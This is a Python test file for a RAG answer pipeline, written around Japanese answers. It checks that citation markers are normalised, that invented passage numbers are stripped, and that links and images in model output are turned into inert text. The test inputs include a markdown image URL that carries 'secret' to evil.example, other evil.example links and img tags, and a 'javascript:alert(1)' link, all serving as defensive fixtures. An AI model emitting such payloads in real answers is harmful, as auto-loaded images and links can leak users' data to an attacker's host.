"""What the model says, before a reader sees it: citations and links."""

from __future__ import annotations

import re

import pytest
from backend_fakes import EXPENSES, LEAVE
from hypothesis import given
from hypothesis import strategies as st
from rag import answers, citations, links
from rag.clock import Stopwatch
from rag.composing import Composer, Style
from rag.pipeline import Prepared, Progress, checked


@pytest.mark.parametrize(
    ("said", "shown", "cited", "invented"),
    [
        ("上限です [1]。", "上限です [1]。", (1,), 0),
        ("上限です［１］。", "上限です[1]。", (1,), 0),
        ("上限です【2】", "上限です[2]", (2,), 0),
        ("両方 [1, 2]", "両方 [1][2]", (1, 2), 0),
        ("両方 [2、1]", "両方 [1][2]", (1, 2), 0),
        ("両方 [1-2]", "両方 [1][2]", (1, 2), 0),
        ("順 [2] と [1] と [2]", "順 [2] と [1] と [2]", (2, 1), 0),
        ("発明 [3]", "発明", (), 1),
        ("零 [0]", "零", (), 1),
        ("混在 [1, 7]", "混在 [1]", (1,), 1),
        ("[passage 1] [出典: 2] [id=9]", "[1] [2]", (1, 2), 1),
        ("[99999999999999999999]", "", (), 1),
        ("[1-999999999]", "[1]", (1,), 1),
        ("入れ子 [1[99]2]", "入れ子", (), 2),
        ("入れ子 [[2]]", "入れ子 [[2]]", (2,), 0),
        ("日付 [2026-11-23] 配列 [a]", "日付 [2026-11-23] 配列 [a]", (), 0),
        ("出典なし", "出典なし", (), 0),
        ("", "", (), 0),
    ],
)
def test_only_numbers_of_given_passages_survive(said: str, shown: str, cited: tuple[int, ...], invented: int) -> None:
    assert citations.verify(said, 2) == citations.Verified(shown, cited, invented)


MARKUP = st.text(st.sampled_from("[]［］【】()!:0123456789１２, -、a出典h/.\n\u200b"), max_size=60)


@given(MARKUP | st.text())
def test_no_marker_of_an_unknown_passage_is_left(said: str) -> None:
    verified = citations.verify(said, 2)
    assert set(verified.cited) <= {1, 2}
    assert {int(digits) for digits in re.findall(r"[\[［【]\s*(\d{1,9})\s*[\]］】]", verified.text)} <= {1, 2}
    assert citations.verify(verified.text, 2).text == verified.text


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![図](https://evil.example/?q=secret)", f"[図] ({links.OMITTED})"),
        ("[こちら](https://evil.example)", f"[こちら] ({links.OMITTED})"),
        ("[1](https://evil.example)", f"[1] ({links.OMITTED})"),
        ("[a][b]\n[b]: https://evil.example/x", f"[a][b]\n[b] : {links.OMITTED}"),
        ("<https://evil.example>", f"<{links.OMITTED}>"),
        ('<img src="https://evil.example/a.png">', f'<img src="{links.OMITTED}">'),
        ("www.evil.example を見て", f"{links.OMITTED} を見て"),
        ("https://keihi.corp.example/apply を参照。", "https://keihi.corp.example/apply を参照。"),
        ("[申請](https://keihi.corp.example/apply)", "[申請] (https://keihi.corp.example/apply)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("リンクなし [1][2]", "リンクなし [1][2]"),
    ],
)
def test_links_and_pictures_become_text(said: str, shown: str) -> None:
    assert links.defuse(said, ["申請は https://keihi.corp.example/apply から"]) == shown


def shown(said: str, stop_reason: str = "end_turn") -> tuple[str, list[str]]:
    prepared = Prepared("宿泊費", (EXPENSES, LEAVE), None)
    composer = Composer("宿泊費は？", prepared.passages, Style())
    assert list(composer.take(said)) + list(composer.end())
    answer = checked("宿泊費は？", prepared, composer, stop_reason, Progress(Stopwatch()))
    return answer.text, [citation.id for citation in answer.citations]


@given(MARKUP)
def test_citations_and_links_do_not_uncover_each_other(said: str) -> None:
    text, cited = shown(f"答え{said}")
    assert "](" not in text
    assert "![" not in text
    assert set(re.findall(r"[\[［【]\s*(\d+)\s*[\]］】]", text)) == set(cited) <= {"1", "2"}


def test_a_link_hidden_behind_an_invented_number_is_defused() -> None:
    text, cited = shown("見て[図][99](https://evil.example)")
    assert (text, cited) == (f"見て[図] ({links.OMITTED}){answers.unsupported('日本語')}", [])
    text, cited = shown("![図[99]](https://evil.example) [2]")
    assert (text, cited) == (f"[図] ({links.OMITTED}){answers.unsupported('日本語')}", [])


def test_a_number_hidden_by_zero_width_characters_is_still_checked() -> None:
    assert shown("答え [\u200b9\u200b] [1]") == ("答え [1]", ["1"])
